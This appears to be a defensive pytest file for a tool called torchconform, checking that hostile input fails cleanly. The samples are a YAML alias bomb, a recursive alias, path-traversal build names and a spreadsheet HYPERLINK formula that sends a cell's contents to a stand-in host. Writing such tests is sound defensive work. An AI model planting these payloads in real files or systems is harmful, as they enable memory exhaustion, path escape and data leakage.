"""Hostile input (issue 14): every case through a real process and a real file, and
each ends in one line naming the cause and the fix, never a crash or a stray file.

YAML alias bombs and recursive aliases in every loader of our YAML files; a lone
surrogate in an assertion message under xdist; build names that are paths; CSV
cells that a spreadsheet would run as formulas."""
import csv
import json
import resource
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "runner"))
from runner_support import REPO, by_name, child_env, run_pytest  # noqa: E402

from torchconform.core.outcome import Outcome  # noqa: E402
from torchconform.collectors.sink_jsonl import read_jsonl  # noqa: E402
from torchconform.db.opening import open_store  # noqa: E402
from torchconform.safe import FORMULA_START, safe_file_name  # noqa: E402

TC = [sys.executable, "-m", "torchconform"]
MEMORY_CAP = 1536 << 20  # before the fix the bomb needed > 4 GB; 1.5 GB is plenty for the CLI itself


def _capped():
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def _run_capped(cmd, cwd=REPO, timeout=120):
    """``cmd`` in a child with its address space capped: (process, seconds)."""
    start = time.monotonic()
    proc = subprocess.run([*map(str, cmd)], cwd=cwd, env=child_env(), capture_output=True, text=True,
                          timeout=timeout, preexec_fn=_capped)
    return proc, time.monotonic() - start


# -- 1. YAML aliases ------------------------------------------------------------------

def _alias_bomb(path: Path) -> tuple[Path, int]:
    """Nine levels of nine aliases: 9**9 (387 million) strings once expanded; anchor on line 1."""
    lines = ["a: &a [" + ", ".join(['"lol"'] * 9) + "]"]
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    path.write_text("\n".join(lines) + "\nentries: []\n")
    return path, 1


def _recursive_alias(path: Path) -> tuple[Path, int]:
    path.write_text("backend: refdev\nentries: &e [*e]\n")
    return path, 2


HOSTILE = {"bomb": _alias_bomb, "recursive": _recursive_alias}


def _assert_refused(proc, elapsed, path, line, prefix="torchconform: error: "):
    err = proc.stderr.strip()
    assert len(err.splitlines()) == 1, proc.stderr[-3000:]
    assert err.startswith(prefix) and f"{path}:{line}: YAML aliases are not allowed" in err, err
    assert "; write the values out" in err
    # No wall-clock bound (a loaded machine's start-up alone took 17 s): that nothing was expanded
    # is what the address-space cap shows, at any speed; the expansion needs more than 4 GB.


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("command", ["skiplist-lint", "gate-config", "backend-profile", "refdev-profile"])
def test_yaml_aliases_are_refused_by_the_cli(tmp_path, kind, command):
    path, line = HOSTILE[kind](tmp_path / f"{kind}.yaml")
    argv = {
        "skiplist-lint": ["skiplist", "lint", path],
        "gate-config": ["gate", "--build", "b2", "--baseline", "b1", "--config", path, "--db", tmp_path / "none.db"],
        "backend-profile": ["run", "--suite", "ops", "--device", "refdev", "--profile", path, "--no-db",
                            "--jsonl", tmp_path / "out.jsonl"],
        "refdev-profile": ["refdev", "describe", "--profile", path],
    }[command]
    proc, elapsed = _run_capped([*TC, *argv], cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr[-3000:]
    _assert_refused(proc, elapsed, path, line)
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]  # nothing written, no store created


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_yaml_aliases_in_a_skiplist_are_a_pytest_usage_error(tmp_path, kind):
    path, line = HOSTILE[kind](tmp_path / f"{kind}.yaml")
    test_file = tmp_path / "test_one.py"
    test_file.write_text("def test_one():\n    pass\n")
    proc, elapsed = _run_capped([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-o", "addopts=", "-q",
                                 "--tc-skiplist", path, test_file], cwd=tmp_path)
    assert proc.returncode == 4, proc.stdout[-3000:] + proc.stderr[-3000:]  # pytest's usage error
    assert "INTERNALERROR" not in proc.stdout + proc.stderr
    _assert_refused(proc, elapsed, path, line, prefix="ERROR: torchconform: error: ")


LOADERS = """
import sys
from torchconform.errors import UserError
path = sys.argv[1]

def refused(name, call):
    try:
        call()
    except UserError as exc:
        print(name, exc)
    else:
        print(name, "loaded")

from torchconform.suites import upstream
refused("upstream-files", lambda: upstream.load_config(path))
from torchconform.suites.models import catalog, coverage, data_files
refused("zoo-data", lambda: data_files.load_yaml(path))
refused("zoo-selection", lambda: catalog.select(path))
coverage.path_for = lambda version: path
refused("zoo-coverage", lambda: coverage.expected("0"))
from torchconform.skiplists import propose
refused("skiplist-append", lambda: propose.append_entries(path, [], "refdev"))
"""


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_yaml_aliases_are_refused_by_every_other_loader(tmp_path, kind):
    path, line = HOSTILE[kind](tmp_path / f"{kind}.yaml")
    proc, elapsed = _run_capped([sys.executable, "-c", LOADERS, path])
    assert proc.returncode == 0, proc.stderr[-3000:]
    got = dict(ln.split(" ", 1) for ln in proc.stdout.splitlines())
    assert sorted(got) == ["skiplist-append", "upstream-files", "zoo-coverage", "zoo-data", "zoo-selection"]
    for name, message in got.items():
        assert message.startswith(f"{path}:{line}: YAML aliases are not allowed"), (name, message)


# -- 2. a lone surrogate under xdist ------------------------------------------------

SURROGATE_TESTS = '''
import sys

import pytest


@pytest.mark.parametrize("i", range(3))
def test_bad(i):
    print("captured \\udcff")
    raise AssertionError("bad \\udcff")


@pytest.mark.parametrize("i", range(2))
def test_ok(i):
    print("out \\udcff")
    sys.stderr.write("err \\udcff\\n")


def test_skipped():
    pytest.skip("why \\udcff")
'''


def test_lone_surrogate_in_a_message_under_xdist(tmp_path):
    """execnet encodes every string as UTF-8: before the fix the first such report
    ended the run (INTERNALERROR) and the tests still queued were lost."""
    path = tmp_path / "test_surrogate.py"
    path.write_text(textwrap.dedent(SURROGATE_TESTS))
    proc, run, outcomes = run_pytest([path, "-n", "2", "--tc-device", "refdev", "-p", "no:randomly"], tmp_path)
    assert "INTERNALERROR" not in proc.stdout + proc.stderr, proc.stdout[-3000:]
    got = by_name(outcomes)
    assert sorted(got) == ["test_bad[0]", "test_bad[1]", "test_bad[2]", "test_ok[0]", "test_ok[1]", "test_skipped"]
    for i in range(3):
        bad = got[f"test_bad[{i}]"]
        assert bad.outcome == "fail" and bad.message == "AssertionError: bad \ufffd", bad
    assert got["test_ok[0]"].outcome == got["test_ok[1]"].outcome == "pass"
    assert got["test_skipped"].message == "why \ufffd"
    assert run["exitstatus"] == 1 and run["total"] == 6


# -- 3. build names are not paths -----------------------------------------------------

@pytest.mark.parametrize("name", ["../../../x", "ABSOLUTE"])
def test_build_names_never_leave_the_runs_folder(tmp_path, name):
    cwd = tmp_path / "a" / "b"
    cwd.mkdir(parents=True)
    if name == "ABSOLUTE":
        name = str(tmp_path / "abs")
    proc = subprocess.run([*TC, "run", "--no-db", "--suite", "ops", "--selection", "quick", "--ops", "abs",
                           "-n", "0", "--build", name], cwd=cwd, env=child_env(), capture_output=True, text=True,
                          timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    runs = cwd / ".torchconform" / "runs"
    written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    # the outcome records and pytest's log, both inside the runs folder under the safe name
    assert [p.name for p in written] == [safe_file_name(name) + ".jsonl", safe_file_name(name) + ".log"], written
    assert {p.parent for p in written} == {runs} and written[0].name != name + ".jsonl"
    assert f"outcome records: {written[0]}" in proc.stdout
    run, outcomes = read_jsonl(written[0])
    assert run["build"] == name and outcomes  # the build keeps its name; only the file is renamed


# -- 4. CSV export and formulas -------------------------------------------------------

def test_csv_export_writes_formulas_as_text(tmp_path):
    db = tmp_path / "store.db"
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    with open_store(str(db)) as store:
        store.ensure_build("b1", device="refdev")
        run = store.start_run("b1", suite="ops")
        store.add_outcomes(run, [Outcome(test_id="t.py::test_formula", outcome="fail", name="@SUM(1+1)",
                                         message=formula, op="-2+3")])
        store.finish_run(run, 1)
    out = tmp_path / "b1.csv"
    proc = subprocess.run([*TC, "export", "--build", "b1", "--format", "csv", "--out", out, "--db", db],
                          env=child_env(), capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert len(rows) == 1
    row = rows[0]
    assert row["message"] == "'" + formula and row["name"] == "'@SUM(1+1)" and row["op"] == "'-2+3"
    assert not [v for v in row.values() if v.startswith(FORMULA_START)], row
    assert row["duration"] == "0.0" and row["attempt"] == "1"  # numbers stay numbers
    exported = json.loads(subprocess.run([*TC, "export", "--build", "b1", "--format", "json", "--db", db],
                                         env=child_env(), capture_output=True, text=True, timeout=120).stdout)
    assert exported["outcomes"][0]["message"] == formula  # JSON is data, not a spreadsheet: unchanged
